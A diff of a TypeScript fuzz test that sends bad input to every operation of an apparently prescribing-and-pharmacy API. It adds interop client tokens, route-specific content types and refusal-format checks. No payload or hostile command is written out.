   let ctx: RouteContext;
   const tokens = new Map<StaffRole, string>();
+  /** Access tokens from /auth/token of a client of the test practice and of the test pharmacy. */
+  const clientTokens = new Map<'practiceClient' | 'pharmacyClient', string>();
   const counts = new Map<Category, number>(CATEGORIES.map((category) => [category, 0]));
   const accepted = new Map<Category, number>(CATEGORIES.map((category) => [category, 0]));
   const statuses = new Map<number, number>();
@@ -892,6 +1083,11 @@ describe('fuzzing every operation of the OpenAPI document with bad input', () =>
       tokens.set(role, login.body.token);
       await api.as(role).get('/me');
     }
+    // The interop routes' callers: an EHR of the test practice and a system of the test pharmacy,
+    // registered by the administrator, with tokens from the real /auth/token (issued on ON: the
+    // fuzz's clock stays there, so they stay valid).
+    clientTokens.set('practiceClient', (await registerInteropClient(api, { kind: 'practice', name: 'Fuzzed EHR' })).token);
+    clientTokens.set('pharmacyClient', (await registerInteropClient(api, { kind: 'pharmacy', name: 'Fuzzed pharmacy system' })).token);
     // Every row any request writes, except the audit trail, sessions and log-in attempts, is recorded.
     await sql`CREATE TABLE fuzz_writes (id bigserial PRIMARY KEY, table_name text NOT NULL, operation text NOT NULL, row jsonb)`.execute(api.services.db);
     await sql`
@@ -947,21 +1143,32 @@ describe('fuzzing every operation of the OpenAPI document with bad input', () =>
       };
 
       // Who sends it: the usual caller, or the first role the operation does not refuse.
-      const roles: Caller[] = [usualCaller(operation), ...(['prescriber', 'pharmacist', 'admin', 'delegate'] as const).filter((role) => role !== usualCaller(operation))];
+      // An interop route is sent by its client alone: no person's session is tried in its place.
+      const interop = operation.sample.client !== undefined;
+      const roles: Caller[] = interop
+        ? [usualCaller(operation)]
+        : [usualCaller(operation), ...(['prescriber', 'pharmacist', 'admin', 'delegate'] as const).filter((role) => role !== usualCaller(operation))];
       const credentialsOf = async (role: Caller, asCookie = false): Promise<Record<string, string>> => {
         if (operation.sample.public === true) return {};
+        if (role === 'practiceClient' || role === 'pharmacyClient') {
+          // A person's session cookie on a machine's route (the client's token is never a cookie).
+          return asCookie ? { cookie: `isocourse_session=${tokens.get('prescriber')}` } : { authorization: `Bearer ${clientTokens.get(role)}` };
+        }
         const token =
           role === 'patient' ? patientToken : operation.name === 'DELETE /api/v1/sessions/current' ? await freshToken(role) : (tokens.get(role) as string);
         return asCookie ? { cookie: `isocourse_session=${token}` } : { authorization: `Bearer ${token}` };
       };
+      const sentAs = payloadOf(operation.sample, ctx);
 
       async function send(fuzzCase: FuzzCase, role: Caller): Promise<{ response: LightMyRequestResponse; writes: Write[] }> {
         const { light: sample } = lighter(operation.body, sampleBody());
-        const sent = fuzzCase.payload === undefined ? (sample === null ? null : serialize(sample)) : fuzzCase.payload;
+        const sent = fuzzCase.payload === undefined ? (operation.sample.raw !== undefined ? (sentAs?.payload ?? null) : sample === null ? null : serialize(sample)) : fuzzCase.payload;
         const payload = sent === null ? null : freshEmails(sent);
-        const contentType = fuzzCase.contentType === undefined ? (payload === null ? null : 'application/json') : fuzzCase.contentType;
+        // The route's own content type (JSON, FHIR JSON, XML) unless the case sends another.
+        const contentType = fuzzCase.contentType === undefined ? (payload === null ? null : (sentAs?.contentType ?? operation.sample.contentType ?? 'application/json')) : fuzzCase.contentType;
+        const credentials = fuzzCase.credentials === undefined ? await credentialsOf(role, fuzzCase.sessionAsCookie) : (fuzzCase.credentials ?? {});
         const headers: Record<string, string> = {
-          ...(fuzzCase.credentials === undefined ? await credentialsOf(role, fuzzCase.sessionAsCookie) : fuzzCase.credentials ?? {}),
+          ...Object.fromEntries(Object.entries(credentials).map(([name, value]) => [name, value.replace(STAFF_SESSION_MARK, tokens.get('prescriber') ?? '')])),
           ...(contentType === null ? {} : { 'content-type': contentType }),
           ...fuzzCase.headers,
         };
@@ -977,7 +1184,7 @@ describe('fuzzing every operation of the OpenAPI document with bad input', () =>
       // The valid sample: what an accepted request of this operation writes.
       let role = roles[0] as Caller;
       const sample = sampleBody();
-      const sampleCase: FuzzCase = { category: 'keys', label: 'sample', payload: sample === null ? null : serialize(sample) };
+      const sampleCase: FuzzCase = { category: 'keys', label: 'sample', payload: operation.sample.raw !== undefined ? (sentAs?.payload ?? null) : sample === null ? null : serialize(sample) };
       let baseline = await send(sampleCase, role);
       for (const candidate of roles.slice(1)) {
         if (baseline.response.statusCode !== 403) break;
@@ -1003,22 +1210,20 @@ describe('fuzzing every operation of the OpenAPI document with bad input', () =>
         if (status >= 500) {
           found.push(`${what} ${response.body.slice(0, 300)}`);
         }
-        if (fuzzCase.label === '10 MB JSON' && operation.method !== 'GET' && status !== 413) {
+        if ((fuzzCase.label === '10 MB JSON' || fuzzCase.label === '10 MB XML') && operation.method !== 'GET' && status !== 413) {
           found.push(`${what}: a 10 MB body must be refused 413`);
         }
         if (status >= 400) {
-          const contentType = String(response.headers['content-type'] ?? '');
-          let body: { type?: unknown; title?: unknown; status?: unknown } = {};
-          try {
-            body = response.json();
-          } catch {
-            found.push(`${what}: not JSON: ${response.body.slice(0, 200)}`);
+          // problem+json for the API; an OperationOutcome or an NCPDP Error for an interop route.
+          const wrongFormat = refusalFormatProblem(operation.sample, status, response.headers['content-type'], response.body);
+          if (wrongFormat !== null) {
+            found.push(`${what}: ${wrongFormat}`);
           }
-          if (!/^application\/problem\+json/.test(contentType) || typeof body.type !== 'string' || typeof body.title !== 'string' || body.status !== status) {
-            found.push(`${what}: not problem+json (${contentType}): ${response.body.slice(0, 200)}`);
-          }
-          if (writes.length > 0) {
-            found.push(`${what} but wrote ${JSON.stringify([...tally(writes)])}`);
+          // A message about someone who matches a patient by name and birth date alone opens a
+          // review for the care team even though the message itself is refused (issue 11, item 7).
+          const recorded = writes.filter((write) => !(interop && write.operation === 'INSERT' && write.table_name === 'patient_match_reviews'));
+          if (recorded.length > 0) {
+            found.push(`${what} but wrote ${JSON.stringify([...tally(recorded)])}`);
           }
         } else if (status >= 200 && status < 300) {
           accepted.set(fuzzCase.category, (accepted.get(fuzzCase.category) ?? 0) + 1);
@@ -1032,7 +1237,8 @@ describe('fuzzing every operation of the OpenAPI document with bad input', () =>
             }
           }
           const stored = stringsIn(writes.filter((write) => write.operation !== 'DELETE').map((write) => write.row));
-          for (const { field, value } of fuzzCase.planted ?? []) {
+          // An interop route maps a message onto the facts and keeps only what it maps: no text is planted there.
+          for (const { field, value } of interop ? [] : (fuzzCase.planted ?? [])) {
             if (!NOT_STORED_AS_SENT.has(field) && !stored.has(value)) {
               found.push(`${what}: ${field} = ${describeValue(value)} was accepted but not stored verbatim`);
             }
